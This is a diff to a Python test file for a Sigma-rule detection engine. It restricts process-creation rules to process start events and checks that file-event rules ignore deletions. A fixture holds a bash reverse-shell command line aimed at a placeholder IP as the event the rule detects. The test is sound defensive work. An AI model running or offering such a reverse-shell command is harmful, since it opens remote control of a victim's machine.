@@ -177,10 +177,34 @@ detection:
 """
     (lr,) = load_file(write(tmp_path, rule))
     assert lr.rule.datasets == ("process",)
-    doc = {"event": {"dataset": "process"},
+    doc = {"event": {"dataset": "process", "type": ["start"]},
            "process": {"executable": "/usr/bin/bash",
                        "command_line": "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}}
     assert lr.rule.on_event(doc, 0.0) is not None
+    # process_creation is a process start: the same process ending, or a baseline, is not
+    # (issue 15 finding: the rule matched process end events too).
+    for other in (["end"], ["info"], None):
+        assert lr.rule.on_event({**doc, "event": {"dataset": "process", "type": other}}, 0.0) is None
+
+
+def test_file_event_means_created_or_modified_not_deleted(tmp_path: Path) -> None:
+    """Issue 15 finding: SigmaHQ "New Cron File Created" fired when the file was deleted."""
+    rule = f"""
+title: cron file
+id: {UUID}
+status: test
+level: medium
+logsource: {{product: linux, category: file_event}}
+detection:
+  selection:
+    TargetFilename|startswith: /etc/cron.d/
+  condition: selection
+"""
+    (lr,) = load_file(write(tmp_path, rule))
+    doc = {"event": {"dataset": "file"}, "file": {"path": "/etc/cron.d/evil"}}
+    fired = {t: lr.rule.on_event({**doc, "event": {"dataset": "file", "type": [t]}}, 0.0)
+             is not None for t in ("creation", "change", "deletion")}
+    assert fired == {"creation": True, "change": True, "deletion": False}
 
 
 # --- the detection: section -----------------------------------------------------------
